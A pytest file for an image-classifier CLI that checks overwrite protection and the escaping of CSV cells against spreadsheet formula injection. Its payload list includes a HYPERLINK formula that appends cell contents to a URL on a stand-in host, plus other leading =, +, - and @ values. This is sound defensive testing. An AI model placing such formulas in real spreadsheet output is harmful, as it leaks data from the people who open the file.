"""What eval, predict and export write: never over an existing file without --overwrite (the
convention of prepare-dataset --overwrite), and no CSV cell that a spreadsheet would run as a
formula (OWASP's CSV injection: a leading =, +, -, @). Through the real commands in a confined
child."""
from __future__ import annotations

import csv

import numpy as np
import pytest
from PIL import Image

from tests.train.tiny_data import write_tiny_dataset

from .model_child import make_run, run_cli

pytestmark = [pytest.mark.timeout(240), pytest.mark.usefixtures("child_processes")]

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture(scope="module")
def dataset(tmp_path_factory):
    return write_tiny_dataset(tmp_path_factory.mktemp("data") / "ds")


def _image(path):
    Image.fromarray(np.full((16, 16, 3), 120, np.uint8)).save(path)
    return path


def test_class_names_and_paths_never_become_formulas(dataset, tmp_path):
    run = make_run(tmp_path / "run", dataset, FORMULAS)
    _image(tmp_path / "=cmd.png")
    out = tmp_path / "p.csv"
    ran = run_cli("predict", "--run", run, "=cmd.png", "--out", out, "--top-k", 4,
                  "--device", "cpu", cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr[-3000:]
    (row,) = list(csv.reader(out.open()))[1:]
    assert row[0] == "'=cmd.png"
    assert sorted(row[1::2]) == sorted("'" + name for name in FORMULAS)
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row)


@pytest.mark.parametrize("command", ["predict", "export", "eval"])
def test_an_existing_output_is_kept_unless_overwrite(dataset, tmp_path, command):
    run = make_run(tmp_path / "run", dataset, [f"class{k}" for k in range(4)])
    image = _image(tmp_path / "x.png")
    target = {"predict": tmp_path / "mine.csv", "export": run / "model.safetensors",
              "eval": run / "eval.json"}[command]
    args = {"predict": ["predict", "--run", run, image, "--out", target, "--device", "cpu"],
            "export": ["export", "--run", run, "--format", "safetensors"],
            "eval": ["eval", "--run", run, "--device", "cpu"]}[command]
    target.write_text("my own work\n")
    ran = run_cli(*args, cwd=tmp_path)
    assert ran.error_line(f"turbotrain {command}: error: ").endswith(
        f"{target} already exists; pass --overwrite to replace it, or choose another name")
    assert target.read_text() == "my own work\n"
    ran = run_cli(*args, "--overwrite", cwd=tmp_path)
    assert ran.returncode == 0, ran.stderr[-3000:]
    assert target.read_bytes() != b"my own work\n"
